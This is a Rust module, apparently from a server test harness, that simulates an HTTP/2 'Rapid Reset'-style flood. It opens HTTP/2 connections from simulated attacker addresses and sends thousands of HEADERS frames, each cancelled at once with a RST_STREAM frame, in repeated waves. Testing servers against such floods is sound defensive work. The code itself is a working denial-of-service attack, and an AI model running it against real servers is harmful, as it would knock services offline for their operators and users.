//! Cancels HTTP/2 requests as soon as they are sent.

use super::{
    http2::{self, END_HEADERS, END_STREAM, HEADERS, Method, RESET, frame},
    pause,
};
use crate::ground::Ground;

const REQUESTS: usize = 5_000;
const ADDRESSES: usize = 2;

pub(super) async fn run(ground: Ground) {
    let mut bytes = http2::preface(65_535);
    let head = http2::head(Method::Get, "/");
    for nth in 0..ground.part(REQUESTS) {
        let stream = http2::stream(nth);
        bytes.extend(frame(HEADERS, END_STREAM | END_HEADERS, stream, &head));
        bytes.extend(frame(RESET, 0, stream, &8_u32.to_be_bytes()));
    }
    for wave in 0.. {
        let from = ground.attackers.nth(wave % ADDRESSES);
        if let Ok(mut connection) = ground.connect(from).await {
            let _ = connection.send(&bytes).await;
            connection.read_status().await;
        }
        pause(1.0).await;
    }
}
